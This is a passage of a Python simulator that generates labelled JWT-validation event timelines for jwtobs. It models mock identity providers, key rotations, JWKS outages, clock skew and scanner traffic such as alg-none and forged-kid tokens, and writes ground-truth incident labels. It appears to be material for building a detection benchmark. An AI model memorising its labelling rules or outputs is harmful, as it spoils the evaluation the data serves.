#!/usr/bin/env python3
"""fleet30: an independent generator of jwtobs validation-event timelines with ground-truth labels.

Every event in the output is written by jwtobs itself, from real validations of real signed tokens:

* Each API replica ("pod") is its own OS process (multiprocessing, forkserver) holding ONE jwtobs
  configuration: ``jwtobs.configure(events_path=<out>/<timeline>/events/<pod>.jsonl, service=<api>,
  fingerprint_key=<per-timeline key>, issuers=[...])`` with the default deferred pipeline. A restarted pod is a
  new process (new pod name, new file, cold caches, fresh jwtobs state), as in Kubernetes.
* Two kinds of validators, as real services write them:
    - PyJWT path: ``jwtobs.wrap(validate, library="pyjwt", profile=<api>)`` around a function that peeks the
      unverified ``iss``, picks that issuer's ``jwt.PyJWKClient`` (default lifespan 300 s, or cache_keys=True
      with an LRU of signing keys), and calls ``jwt.decode`` with audience, issuer and a leeway of 0-10 s.
    - jwtobs path: ``jwtobs.Verifier`` / ``jwtobs.VerifierSet`` with one ``jwtobs.JwksSource(clock=time.time)``
      per issuer, ``token_type="at+jwt"``, leeway 30-60 s.
* Key sets come from an in-process ``ThreadingHTTPServer`` on 127.0.0.1 (port 0) in the coordinator. Each issuer
  has its own path and Cache-Control (Auth0-like max-age=15000, Okta-like 3600, Entra-like 86400, Keycloak-like
  no-cache, internal AS 600). The document is a function of the simulated time of the request being validated
  (keys published/unpublished, material replaced, endpoint down), so rotations and outages happen "live".
* Time: in each pod process ``time_machine.travel(..., tick=False)`` is moved to the simulated instant (true
  time + that pod's NTP offset, |offset| ~0.1 s) before each validation, so PyJWT's exp/nbf/iat checks, the
  Verifier's clock, JwksSource's clock (``clock=time.time``) and jwtobs's event timestamps all read simulated
  time. PyJWT's JWKS caches use ``time.monotonic`` (which time-machine does not move): the pods point
  ``jwt.jwks_client.time``, ``jwt.jwk_set_cache.time`` and ``jwt.api_jwk.time`` at a shim whose monotonic() is
  the simulated clock.
* The coordinator is a chronological discrete-event simulation (a heap): clients decide on their local clocks,
  fetch tokens from the IdPs (PyJWT ``jwt.encode``, RS256 and ES256 keys generated with ``cryptography`` at
  start), present them to a pod chosen by the load balancer, and react to the real verdict (renew and retry on
  401, back off and retry on 503, or not).

Background (every timeline)
---------------------------
* Five issuers: Auth0-like (RS256, typ at+jwt, client_id claim, 1 h tokens, a published "next" key), Okta-like
  (RS256, no typ, cid, 1 h), Entra-like v2 (RS256, typ JWT, azp, nbf=iat=issue-5min, 65-95 min tokens, uti
  instead of jti), Keycloak-like realm (RS256, typ JWT, azp, 5 min tokens, no-cache key set) and an internal
  RFC 9068 AS (ES256, typ at+jwt, client_id, 15 min tokens). Each has a retired key from days ago (very old
  tokens name it) and random kid formats like the real products.
* Five APIs: orders-api (PyJWT, 4 pods, leeway 5, Auth0+Okta+Keycloak), catalog-api (PyJWT, 3 pods, leeway 0,
  Okta, cache_keys=True), inventory-api (PyJWT, 3 pods, leeway 10, Entra+Keycloak), billing-api (VerifierSet,
  3 pods, leeway 30, Auth0+internal), payments-api (Verifier, 2 pods, leeway 60, internal, jti required).
* Clients: a SPA (many browser sessions, diurnal), iOS and Android apps (sessions, devices resumed after hours
  presenting their cached expired token first), an admin SPA on Okta, M2M services with 2-8 pods (some share a
  token through a cache, some renew early, some only when their local clock says so, some only after a 401),
  a BFF doing token exchange for many users, a synthetic monitoring probe in 3 regions, a nightly export batch
  job that crosses its 5-minute token's exp, an hourly partner reconcile job that reuses the token file from the
  previous run, a CLI whose developers come back after days, ~25 partner integrations with Zipf rates, and
  internet scanners (garbage, "Bearer", jwt.io sample, alg none, random kids, forged kids, jku, no client id),
  with an occasional slow sweep.
* Clocks: pods NTP (|offset| < 0.1 s), a few servers seconds off, browsers/phones mostly < 1 s with a tail of
  seconds to a few minutes; network latency between the client's decision and the validation (retries crossing
  exp); IdP clocks within 0.1 s.
* Operations: rolling deploys of APIs (one pod at a time, cold caches), random pod restarts (OOM), client
  rolling deploys (tokens lost; some pods reload a persisted token), JWKS blips (5-45 s of 503 or reset),
  healthy key rotations (new key published hours before use, the old one removed after its tokens expired),
  and per timeline some of: a load test, a client hammering with an expired token after its secret expired
  (retries with backoff), a scanner sweep.

Incident timelines (12 h, 06:00-18:00 UTC) each get 2-3 injected incidents (see ``INCIDENT_PLANS``); the label
counts are the rejections the injection caused, from the coordinator's own bookkeeping of every validation
(``truth.jsonl.gz`` next to labels.json; it is not under events/). Rules: kid_before_publish = UNKNOWN_KID of
tokens signed with the unpublished kid; key_removed_early = UNKNOWN_KID of tokens of the removed kid that were
not expired; jwks_outage = JWKS_UNAVAILABLE for that issuer's tokens from onset to the end + 90 s;
signature_spike = BAD_SIGNATURE of legitimate tokens naming the kid after onset; type_confusion = rejections
of the ID tokens the client sent; audience_misconfig = AUDIENCE_MISMATCH at the misconfigured pods (or of the
client's wrong-audience tokens); clock_skew = EXPIRED/NOT_YET_VALID of presentations the client would not have
made with its clock right; attack_burst = every rejection of the burst's tokens.

CLI: ``fleet30.py --out DIR [--only NAME] [--seed-base N] [--jobs N] [--scale F]``.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import heapq
import hmac
import http.server
import itertools
import json
import math
import multiprocessing as mp
import os
import random
import subprocess
import sys
import threading
import time
import uuid
from datetime import UTC, datetime
from pathlib import Path

UTC = UTC
HOUR = 3600.0
MIN = 60.0


def iso(ts: float) -> str:
    return datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def ts_of(s: str) -> float:
    return datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()


def b64u(b: bytes) -> str:
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


# --------------------------------------------------------------------------------------------------- timelines
TIMELINES = [
    # name, quiet, start, hours, plan
    ("quiet-1", True, "2026-10-06T00:00:00Z", 24, "q1"),
    ("quiet-2", True, "2026-10-08T00:00:00Z", 24, "q2"),
    ("quiet-3", True, "2026-10-11T00:00:00Z", 24, "q3"),
    ("incident-1", False, "2026-10-13T06:00:00Z", 12, "i1"),
    ("incident-2", False, "2026-10-14T06:00:00Z", 12, "i2"),
    ("incident-3", False, "2026-10-15T06:00:00Z", 12, "i3"),
    ("incident-4", False, "2026-10-16T06:00:00Z", 12, "i4"),
    ("incident-5", False, "2026-10-20T06:00:00Z", 12, "i5"),
]

# =========================================================================================== pod process (API)


def worker_main(conn, spec):  # pragma: no cover - runs in the pod process
    import time as _time
    import types

    import jwt
    import jwt.api_jwk
    import jwt.jwk_set_cache
    import jwt.jwks_client
    import time_machine

    import jwtobs

    shim = types.SimpleNamespace(monotonic=_time.time, time=_time.time, sleep=_time.sleep)
    jwt.jwks_client.time = shim  # PyJWT's key-set cache and cooldown follow the simulated clock
    jwt.jwk_set_cache.time = shim
    jwt.api_jwk.time = shim
    coords = time_machine.travel(spec["t0"], tick=False).start()
    jwtobs.configure(
        events_path=spec["events_path"],
        service=spec["service"],
        fingerprint_key=spec["fp_key"],
        issuers=[i["iss"] for i in spec["issuers"]],
    )
    aud = spec["audience"]
    if spec["path"] == "pyjwt":
        clients = {
            i["iss"]: jwt.PyJWKClient(
                i["jwks_url"], cache_keys=spec["cache_keys"], lifespan=spec["lifespan"], timeout=2.0
            )
            for i in spec["issuers"]
        }
        leeway = spec["leeway"]
        algs = ["RS256", "ES256"]

        def validate(token):
            unverified = jwt.decode(token, options={"verify_signature": False})
            iss = unverified.get("iss")
            client = clients.get(iss) if isinstance(iss, str) else None
            if client is None:
                raise jwt.InvalidIssuerError("Invalid issuer")
            signing_key = client.get_signing_key_from_jwt(token)
            return jwt.decode(
                token,
                signing_key.key,
                algorithms=algs,
                audience=aud,
                issuer=iss,
                leeway=leeway,
                options={"require": ["exp", "iat", "iss"]},
            )

        check = jwtobs.wrap(validate, library="pyjwt", profile=spec["profile"])

        def run(tok):
            try:
                check(tok)
                return None, None
            except Exception as exc:
                r = jwtobs.reason_of(exc)
                return (str(r) if r else "UNCLASSIFIED:" + type(exc).__name__), jwtobs.detail_of(exc)

    else:
        verifiers = []
        for i in spec["issuers"]:
            prof = jwtobs.Profile(
                name=spec["profile"],
                issuer=i["iss"],
                audience=aud,
                algorithms=(i["alg"],),
                token_type="at+jwt",
                leeway=spec["leeway"],
                required_claims=tuple(spec["required"]),
            )
            src = jwtobs.JwksSource(i["jwks_url"], timeout=2.0, clock=_time.time)
            verifiers.append(jwtobs.Verifier(prof, keys=src))
        vs = verifiers[0] if len(verifiers) == 1 else jwtobs.VerifierSet(verifiers)

        def run(tok):
            try:
                vs.verify(tok)
                return None, None
            except jwtobs.TokenRejected as exc:
                return str(exc.reason), exc.detail
            except Exception as exc:
                return "ESCAPED:" + type(exc).__name__, str(exc)[:200]

    while True:
        msg = conn.recv()
        op = msg[0]
        if op == "v":
            coords.move_to(msg[1])
            conn.send(run(msg[2]))
        elif op == "stop":
            coords.move_to(msg[1])
            jwtobs.flush()
            conn.send("ok")
            break
    return


# ================================================================================================ coordinator


class Tok:
    __slots__ = ("aud", "exp", "iat", "iss", "issued", "key", "kid", "raw", "tags")

    def __init__(self, raw, exp, iat, kid, key, iss, aud, tags, issued):
        self.raw, self.exp, self.iat, self.kid, self.key = raw, exp, iat, kid, key
        self.iss, self.aud, self.tags, self.issued = iss, aud, tags, issued


class KeyRec:
    def __init__(self, kid, alg, priv, publish_at, unpublish_at, sign_from, sign_until, tag=None):
        import jwt

        self.kid, self.alg, self.priv = kid, alg, priv
        self.publish_at, self.unpublish_at = publish_at, unpublish_at
        self.sign_from, self.sign_until = sign_from, sign_until
        self.tag = tag
        self.tag_until = FAR
        algo = jwt.algorithms.RSAAlgorithm if alg == "RS256" else jwt.algorithms.ECAlgorithm
        d = json.loads(algo.to_jwk(priv.public_key()))
        d.update(kid=kid, use="sig", alg=alg)
        self.jwk = d


def new_key(alg, rng):
    from cryptography.hazmat.primitives.asymmetric import ec, rsa

    if alg == "RS256":
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return ec.generate_private_key(ec.SECP256R1())


def kid_for(style, rng, n=0):
    rb = lambda k: bytes(rng.getrandbits(8) for _ in range(k))  # noqa: E731
    if style == "auth0":
        return b64u(rb(16))[:22]
    if style == "okta":
        return b64u(rb(32))[:43]
    if style == "entra":
        return b64u(rb(20))[:27]
    if style == "keycloak":
        return b64u(rb(32))[:43]
    return f"as-es256-2026-{rng.randint(1, 12):02d}-{n}{rng.choice('abcdef')}"


FAR = 4e9


class Issuer:
    def __init__(self, sim, name, style, iss, alg, path, cache_control, lifetime, typ, client_claim):
        self.sim, self.name, self.style, self.iss, self.alg = sim, name, style, iss, alg
        self.path, self.cache_control, self.lifetime, self.typ = path, cache_control, lifetime, typ
        self.client_claim = client_claim
        self.keys: list[KeyRec] = []
        self.outages: list[tuple[float, float, str, str | None]] = []  # start, end, mode, incident id
        self.clock_offset = sim.rng.gauss(0, 0.05)
        self.fetches = 0
        self.failed_fetches = 0
        self._doc_cache: dict[tuple, bytes] = {}

    def add_key(self, **kw):
        rng = self.sim.rng
        kid = kw.pop("kid", None) or kid_for(self.style, rng, len(self.keys))
        priv = kw.pop("priv", None) or new_key(self.alg, rng)
        k = KeyRec(kid, self.alg, priv, **kw)
        self.keys.append(k)
        return k

    def published(self, t):
        return [k for k in self.keys if k.publish_at <= t < k.unpublish_at]

    def signer(self, t):
        c = [k for k in self.keys if k.sign_from <= t < k.sign_until]
        return max(c, key=lambda k: k.sign_from)

    def outage_at(self, t):
        for s, e, mode, _ in self.outages:
            if s <= t < e:
                return mode
        return None

    def doc(self, t):
        pub = self.published(t)
        key = tuple(id(k) for k in pub)
        b = self._doc_cache.get(key)
        if b is None:
            b = json.dumps({"keys": [k.jwk for k in pub]}).encode()
            self._doc_cache[key] = b
        return b

    def jwks_url(self):
        return f"http://127.0.0.1:{self.sim.port}{self.path}"

    # ---- tokens
    def access_token(self, client_id, aud, sub, t_issue, *, user=True, extra=None, key=None, tags=()):
        import jwt

        rng = self.sim.rng
        key = key or self.signer(t_issue)
        now = t_issue + self.clock_offset
        iat = int(now)
        life = self.lifetime if not callable(self.lifetime) else self.lifetime(rng)
        st = self.style
        if st == "auth0":
            c = {
                "iss": self.iss,
                "sub": (f"auth0|{sub}" if user else f"{client_id}@clients"),
                "aud": [aud, self.iss + "userinfo"] if user else aud,
                "iat": iat,
                "exp": iat + life,
                "scope": "openid profile read:orders write:orders" if user else "read:orders read:billing",
                "client_id": client_id,
                "jti": b64u(rng.getrandbits(128).to_bytes(16, "big")),
            }
            if not user:
                c["gty"] = "client-credentials"
            hdr = {"kid": key.kid, "typ": "at+jwt"}
        elif st == "okta":
            c = {
                "ver": 1,
                "jti": "AT." + b64u(rng.getrandbits(256).to_bytes(32, "big"))[:43],
                "iss": self.iss,
                "aud": aud,
                "iat": iat,
                "exp": iat + life,
                "cid": client_id,
                "scp": ["openid", "catalog.read"] if user else ["catalog.read", "catalog.write"],
                "sub": f"{sub}@acme.example" if user else client_id,
            }
            if user:
                c["uid"] = "00u" + sub[:17]
                c["auth_time"] = iat - rng.randint(0, 20000)
            hdr = {"kid": key.kid, "typ": None}
        elif st == "entra":
            iat = int(now) - 300
            c = {
                "aud": aud,
                "iss": self.iss,
                "iat": iat,
                "nbf": iat,
                "exp": int(now) + life,
                "aio": b64u(rng.getrandbits(192).to_bytes(24, "big")),
                "azp": client_id,
                "azpacr": "1",
                "oid": str(uuid.UUID(int=rng.getrandbits(128))),
                "rh": "0.A" + b64u(rng.getrandbits(96).to_bytes(12, "big")) + ".",
                "roles": ["Inventory.ReadWrite.All"],
                "sub": sub,
                "tid": self.iss.split("/")[3],
                "uti": b64u(rng.getrandbits(128).to_bytes(16, "big"))[:22],
                "ver": "2.0",
            }
            hdr = {"kid": key.kid, "typ": "JWT"}
        elif st == "keycloak":
            c = {
                "exp": iat + life,
                "iat": iat,
                "jti": ("onrtcc:" if not user else "") + str(uuid.UUID(int=rng.getrandbits(128))),
                "iss": self.iss,
                "aud": [aud, "account"],
                "sub": sub,
                "typ": "Bearer",
                "azp": client_id,
                "acr": "1",
                "scope": "profile email",
                "preferred_username": f"service-account-{client_id}" if not user else f"user{sub[:6]}",
            }
            if not user:
                c["client_id"] = client_id
            hdr = {"kid": key.kid, "typ": "JWT"}
        else:  # internal RFC 9068 AS
            c = {
                "iss": self.iss,
                "sub": sub,
                "aud": aud,
                "exp": iat + life,
                "iat": iat,
                "nbf": iat,
                "jti": str(uuid.UUID(int=rng.getrandbits(128))),
                "client_id": client_id,
                "scope": "billing:write payments:read",
            }
            hdr = {"kid": key.kid, "typ": "at+jwt"}
        if extra:
            c.update(extra)
        raw = jwt.encode(c, key.priv, algorithm=key.alg, headers=hdr)
        self.sim.n_signed += 1
        t_tags = tuple(tags) + ((key.tag,) if key.tag and t_issue < key.tag_until else ())
        return Tok(raw, c["exp"], c["iat"], key.kid, key, self.iss, aud, t_tags, t_issue)

    def id_token(self, client_id, sub, t_issue, tags=()):
        """An OIDC ID token (Auth0-like: typ JWT, aud = the client, nonce, 10 h)."""
        import jwt

        rng = self.sim.rng
        key = self.signer(t_issue)
        iat = int(t_issue + self.clock_offset)
        c = {
            "given_name": "Sam",
            "nickname": "sam" + sub[:4],
            "name": "Sam Example",
            "email": f"{sub[:8]}@mail.example",
            "email_verified": True,
            "iss": self.iss,
            "aud": client_id,
            "sub": f"auth0|{sub}",
            "iat": iat,
            "exp": iat + 36000,
            "sid": b64u(rng.getrandbits(128).to_bytes(16, "big")),
            "nonce": b64u(rng.getrandbits(96).to_bytes(12, "big")),
        }
        raw = jwt.encode(c, key.priv, algorithm=key.alg, headers={"kid": key.kid, "typ": "JWT"})
        self.sim.n_signed += 1
        return Tok(raw, c["exp"], iat, key.kid, key, self.iss, client_id, tuple(tags), t_issue)


# ---------------------------------------------------------------------------------------------- JWKS server
SIM = None


class JwksHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        sim = SIM
        iss = sim.issuers_by_path.get(self.path)
        if iss is None:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        t = sim.true_now
        iss.fetches += 1
        mode = iss.outage_at(t)
        if mode == "reset":
            iss.failed_fetches += 1
            self.close_connection = True
            try:
                self.connection.shutdown(2)
            except OSError:
                pass
            return
        if mode:
            iss.failed_fetches += 1
            body = b'{"error":"temporarily_unavailable","error_description":"upstream connect error"}'
            status = int(mode)
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)
            self.close_connection = True
            return
        body = iss.doc(t)
        self.send_response(200)
        self.send_header("Content-Type", "application/json; charset=utf-8")
        self.send_header("Cache-Control", iss.cache_control)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


# ---------------------------------------------------------------------------------------------- APIs, pods
class Api:
    def __init__(self, name, path, audience, issuers, leeway, replicas, **kw):
        self.name, self.path, self.audience, self.issuers = name, path, audience, issuers
        self.leeway, self.n = leeway, replicas
        self.cache_keys = kw.get("cache_keys", False)
        self.lifespan = kw.get("lifespan", 300)
        self.required = kw.get("required", ("iss", "sub", "aud", "exp"))
        self.slots: list[Pod] = []
        self.rs = None

    def live(self, t):
        return [p for p in self.slots if p.ready_at <= t]


class Pod:
    def __init__(self, sim, api, slot):
        self.sim, self.api, self.slot = sim, api, slot
        self.proc = None
        self.conn = None
        self.name = None
        self.ready_at = 0.0
        self.offset = 0.0
        self.audience = api.audience
        self.tag = None  # incident id while misconfigured
        self.restarts = 0

    def start(self, t, audience=None, tag=None, new_rs=False, readiness=0.0):
        sim, api = self.sim, self.api
        rng = sim.rng
        if self.name is None or new_rs:
            if new_rs or api.rs is None:
                api.rs = "".join(rng.choice("0123456789bcdfghjklmnpqrstvwxz") for _ in range(9))
            self.name = f"{api.name}-{api.rs}-" + "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))
            self.restarts = 0
        else:
            self.restarts += 1
        self.audience = audience or api.audience
        self.tag = tag
        self.offset = rng.gauss(0, 0.08)
        suffix = f"-r{self.restarts}" if self.restarts else ""
        spec = {
            "t0": t + self.offset,
            "events_path": os.path.join(sim.events_dir, f"{self.name}{suffix}.jsonl"),
            "service": api.name,
            "profile": api.name,
            "fp_key": sim.fp_key,
            "path": api.path,
            "audience": self.audience,
            "leeway": api.leeway,
            "cache_keys": api.cache_keys,
            "lifespan": api.lifespan,
            "required": list(api.required),
            "issuers": [{"iss": i.iss, "jwks_url": i.jwks_url(), "alg": i.alg} for i in api.issuers],
        }
        parent, child = sim.ctx.Pipe()
        self.proc = sim.ctx.Process(target=worker_main, args=(child, spec), daemon=True)
        self.proc.start()
        child.close()
        self.conn = parent
        self.ready_at = t + readiness
        sim.pods_started += 1

    def stop(self, t):
        if self.proc is None:
            return
        self.conn.send(("stop", t + self.offset))
        self.conn.recv()
        self.proc.join(30)
        self.conn.close()
        self.proc = None

    def validate(self, t, raw):
        self.sim.true_now = t
        self.conn.send(("v", t + self.offset, raw))
        return self.conn.recv()


# -------------------------------------------------------------------------------------------- clients, devices
class Client:
    def __init__(self, cid, arche, issuer, apis, **kw):
        self.cid, self.arche, self.issuer, self.apis = cid, arche, issuer, apis  # apis: [(Api, weight)]
        self.shared_cache = kw.get("shared_cache", False)
        self.shared: dict = {}
        self.margin = kw.get("margin", 60)
        self.renew_on_401 = kw.get("renew_on_401", True)
        self.retry_503 = kw.get("retry_503", 0)
        self.hammer = None  # (start, end): token endpoint refuses, retries with the old token
        self.skew = None  # (start, end, fn, incident id)
        self.wrong_aud = None  # (start, end, api name, wrong aud, incident id)
        self.idtok = None  # (start, end, api name, fraction fn, incident id)
        self.user = kw.get("user", False)
        self.latency = kw.get("latency", "server")
        self.devices: list[Device] = []

    def api_pick(self, rng):
        r = rng.random() * sum(w for _, w in self.apis)
        for a, w in self.apis:
            r -= w
            if r <= 0:
                return a
        return self.apis[-1][0]

    def skew_at(self, t):
        if self.skew and self.skew[0] <= t < self.skew[1]:
            return self.skew[2](t)
        return 0.0


class Device:
    __slots__ = (
        "affected_seed",
        "client",
        "did",
        "idt",
        "margin",
        "offset",
        "persist",
        "renew_on_401",
        "restart_pending",
        "resume_check",
        "stale_init",
        "sub",
        "tokens",
        "version",
    )

    def __init__(self, client, did, offset, margin, resume_check, renew_on_401, sub):
        self.client, self.did, self.offset, self.margin = client, did, offset, margin
        self.resume_check, self.renew_on_401 = resume_check, renew_on_401
        self.tokens: dict = {}
        self.idt = None
        self.sub = sub
        self.stale_init = False
        self.version = "v1"
        self.persist = False
        self.restart_pending = False
        self.affected_seed = random.random()


FLAG_RESUME, FLAG_FORCE, FLAG_RETRY, FLAG_RETRY503 = 1, 2, 4, 8


def diurnal(t):
    h = (t % 86400) / 3600.0

    def bump(c, w):
        d = min(abs(h - c), 24 - abs(h - c))
        return math.exp(-0.5 * (d / w) ** 2)

    return 0.16 + 0.62 * bump(11.5, 3.0) + 0.7 * bump(18.0, 3.2)


DMEAN = sum(diurnal(i * 300.0) for i in range(288)) / 288
DMAX = max(diurnal(i * 300.0) for i in range(288))


def diurnal_m2m(t):
    return 0.55 + 0.45 * diurnal(t) / DMAX


DMEAN_M2M = sum(diurnal_m2m(i * 300.0) for i in range(288)) / 288


# ====================================================================================================== Sim
class Sim:
    def __init__(self, name, quiet, start, hours, plan, seed, out, scale=1.0):
        global SIM
        SIM = self
        self.name, self.quiet, self.plan, self.seed = name, quiet, plan, seed
        self.t0 = ts_of(start)
        self.t1 = self.t0 + hours * HOUR
        self.rng = random.Random(seed)
        random.seed(seed + 1)
        self.out = os.path.join(out, name)
        self.events_dir = os.path.join(self.out, "events")
        os.makedirs(self.events_dir, exist_ok=True)
        for f in os.listdir(self.events_dir):
            os.remove(os.path.join(self.events_dir, f))
        self.fp_key = b64u(hashlib.sha256(f"fleet30-{seed}".encode()).digest())
        self.ctx = mp.get_context("forkserver")
        self.true_now = self.t0
        self.heap: list = []
        self.seq = itertools.count()
        self.n_signed = 0
        self.pods_started = 0
        self.truth: list = []
        self.incidents: dict[str, dict] = {}
        self.notes: list[str] = []
        weekend = datetime.fromtimestamp(self.t0, UTC).weekday() >= 5
        # daily volume (24 h equivalent); 12 h incident windows get the day part of it
        self.V = self.rng.uniform(62000, 100000) * (0.62 if weekend else 1.0) * scale

    # ----------------------------------------------------------------------------------------- set up
    def push(self, t, kind, payload):
        heapq.heappush(self.heap, (t, next(self.seq), kind, payload))

    def build(self):
        rng = self.rng
        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), JwksHandler)
        self.srv.daemon_threads = True
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
        t0 = self.t0
        tenant = str(uuid.UUID(int=rng.getrandbits(128)))
        I = {}  # noqa: E741
        I["auth0"] = Issuer(
            self,
            "auth0",
            "auth0",
            "https://acme-prod.eu.auth0.example/",
            "RS256",
            "/auth0/.well-known/jwks.json",
            "public, max-age=15000, stale-while-revalidate=15, stale-if-error=86400",
            3600,
            "at+jwt",
            "client_id",
        )
        I["okta"] = Issuer(
            self,
            "okta",
            "okta",
            "https://acme.okta.example/oauth2/aus8k2f1xq9ZtEw7P5d7",
            "RS256",
            "/okta/oauth2/aus8k2f1xq9ZtEw7P5d7/v1/keys",
            "max-age=3600, must-revalidate",
            3600,
            None,
            "cid",
        )
        I["entra"] = Issuer(
            self,
            "entra",
            "entra",
            f"https://login.microsoftonline.example/{tenant}/v2.0",
            "RS256",
            f"/entra/{tenant}/discovery/v2.0/keys",
            "max-age=86400, private",
            lambda r: r.randint(3900, 5700),
            "JWT",
            "azp",
        )
        I["keycloak"] = Issuer(
            self,
            "keycloak",
            "keycloak",
            "https://sso.acme.example/realms/platform",
            "RS256",
            "/realms/platform/protocol/openid-connect/certs",
            "no-cache",
            300,
            "JWT",
            "azp",
        )
        I["internal"] = Issuer(
            self,
            "internal",
            "internal",
            "https://auth.acme.example",
            "ES256",
            "/internal/.well-known/jwks.json",
            "public, max-age=600",
            900,
            "at+jwt",
            "client_id",
        )
        self.I = I
        self.issuers_by_path = {i.path: i for i in I.values()}
        # key history: a retired key (days ago) and the current one; Auth0 also publishes its next key
        for iss in I.values():
            iss.add_key(
                publish_at=-FAR,
                unpublish_at=t0 - rng.uniform(2, 9) * 86400,
                sign_from=-FAR,
                sign_until=t0 - rng.uniform(10, 20) * 86400,
            )
            iss.cur = iss.add_key(
                publish_at=-FAR, unpublish_at=FAR, sign_from=t0 - rng.uniform(10, 20) * 86400, sign_until=FAR
            )
        I["auth0"].nxt = I["auth0"].add_key(publish_at=-FAR, unpublish_at=FAR, sign_from=FAR, sign_until=FAR)
        # fix the retired key's signing window to end before the current one starts
        for iss in I.values():
            iss.keys[0].sign_until = iss.cur.sign_from
        A = {}
        A["orders"] = Api(
            "orders-api", "pyjwt", "https://api.acme.example/orders", [I["auth0"], I["okta"], I["keycloak"]], 5, 4
        )
        A["catalog"] = Api("catalog-api", "pyjwt", "api://catalog", [I["okta"]], 0, 3, cache_keys=True, lifespan=600)
        A["inventory"] = Api("inventory-api", "pyjwt", "api://inventory", [I["entra"], I["keycloak"]], 10, 3)
        A["billing"] = Api(
            "billing-api", "verifier", "https://api.acme.example/billing", [I["auth0"], I["internal"]], 30, 3
        )
        A["payments"] = Api(
            "payments-api", "verifier", "payments", [I["internal"]], 60, 2, required=("iss", "sub", "aud", "exp", "jti")
        )
        self.A = A
        for api in A.values():
            api.slots = [Pod(self, api, s) for s in range(api.n)]
        self.build_clients()

    def mk_clients(self):
        pass

    def build_clients(self):
        rng, I, A = self.rng, self.I, self.A  # noqa: E741 (issuers, APIs, clients: as in the docstring)
        C = {}

        def add(c):
            C[c.cid] = c
            return c

        add(
            Client(
                "web-storefront",
                "spa",
                I["auth0"],
                [(A["orders"], 0.6), (A["billing"], 0.4)],
                user=True,
                margin=60,
                latency="browser",
            )
        ).share = 0.20
        add(
            Client(
                "ios-app",
                "mobile",
                I["auth0"],
                [(A["orders"], 0.7), (A["billing"], 0.3)],
                user=True,
                margin=120,
                latency="mobile",
            )
        ).share = 0.09
        add(
            Client(
                "android-app",
                "mobile",
                I["auth0"],
                [(A["orders"], 0.7), (A["billing"], 0.3)],
                user=True,
                margin=60,
                latency="mobile",
            )
        ).share = 0.11
        add(
            Client(
                "0oa4xk2admin7ConsoleP5",
                "spa",
                I["okta"],
                [(A["orders"], 0.5), (A["catalog"], 0.5)],
                user=True,
                margin=300,
                latency="browser",
            )
        ).share = 0.035
        add(
            Client(
                "checkout-svc",
                "m2m",
                I["internal"],
                [(A["billing"], 0.5), (A["payments"], 0.5)],
                margin=60,
                retry_503=2,
            )
        ).share = 0.09
        add(
            Client(
                "fulfillment-worker",
                "m2m",
                I["keycloak"],
                [(A["orders"], 0.5), (A["inventory"], 0.5)],
                margin=30,
                retry_503=2,
                shared_cache=False,
            )
        ).share = 0.08
        add(
            Client("0oa9catalogIndexer3x7", "m2m", I["okta"], [(A["catalog"], 1.0)], shared_cache=True, margin=120)
        ).share = 0.05
        add(
            Client(
                "pricing-svc",
                "m2m",
                I["keycloak"],
                [(A["inventory"], 0.7), (A["orders"], 0.3)],
                margin=20,
                renew_on_401=False,
            )
        ).share = 0.035
        add(Client("ledger-sync", "m2m", I["internal"], [(A["payments"], 1.0)], margin=45, retry_503=2)).share = 0.03
        add(
            Client(
                "bff-gateway", "bff", I["internal"], [(A["billing"], 0.6), (A["payments"], 0.4)], user=True, margin=30
            )
        ).share = 0.06
        add(
            Client(
                "3f9c2d1e-8a4b-4c6d-9e0f-erp0connect01",
                "m2m",
                I["entra"],
                [(A["inventory"], 1.0)],
                margin=300,
                retry_503=1,
            )
        ).share = 0.035
        add(
            Client("synthetics-probe", "probe", I["auth0"], [(A["orders"], 0.5), (A["billing"], 0.5)], margin=300)
        ).share = 0.0
        add(
            Client("data-export-nightly", "batch", I["keycloak"], [(A["orders"], 1.0)], margin=None, renew_on_401=True)
        ).share = 0.0
        add(
            Client("b7e1c0d2-4f3a-49e8-a1b2-reconcile0001", "hourly", I["entra"], [(A["inventory"], 1.0)], margin=None)
        ).share = 0.0
        add(
            Client(
                "0oa2acmeCliNative8q1",
                "cli",
                I["okta"],
                [(A["orders"], 0.6), (A["catalog"], 0.4)],
                user=True,
                margin=0,
                latency="browser",
            )
        ).share = 0.006
        # long tail of partner integrations (Zipf)
        n_p = rng.randint(20, 30)
        zs = [1.0 / (k + 1) ** 1.1 for k in range(n_p)]
        zt = sum(zs)
        for k in range(n_p):
            if rng.random() < 0.45:
                iss, apis = I["entra"], [(A["inventory"], 1.0)]
                cid = str(uuid.UUID(int=rng.getrandbits(128)))
            else:
                iss = I["auth0"]
                apis = [(A["orders"], rng.uniform(0.2, 1)), (A["billing"], rng.uniform(0, 0.8))]
                cid = b64u(rng.getrandbits(192).to_bytes(24, "big"))[:32]
            c = add(
                Client(
                    cid,
                    "m2m",
                    iss,
                    apis,
                    margin=rng.choice([0, 0, 10, 30, 60, 300, None]),
                    renew_on_401=rng.random() < 0.85,
                    retry_503=rng.choice([0, 1, 2]),
                )
            )
            c.share = 0.08 * zs[k] / zt
            c.partner = True
        self.C = C

    # -------------------------------------------------------------------------------------- device factory
    def clock_offset(self, kind):
        r = self.rng.random()
        g = self.rng.gauss
        if kind == "server":
            if r < 0.95:
                return g(0, 0.04)
            return self.rng.choice([-1, 1]) * self.rng.uniform(1, 8)
        if kind == "browser":
            if r < 0.86:
                return g(0, 0.4)
            if r < 0.985:
                return self.rng.choice([-1, 1]) * self.rng.uniform(2, 60)
            return self.rng.choice([-1, 1]) * self.rng.uniform(60, 300)
        if r < 0.8:  # mobile
            return g(0, 0.5)
        if r < 0.96:
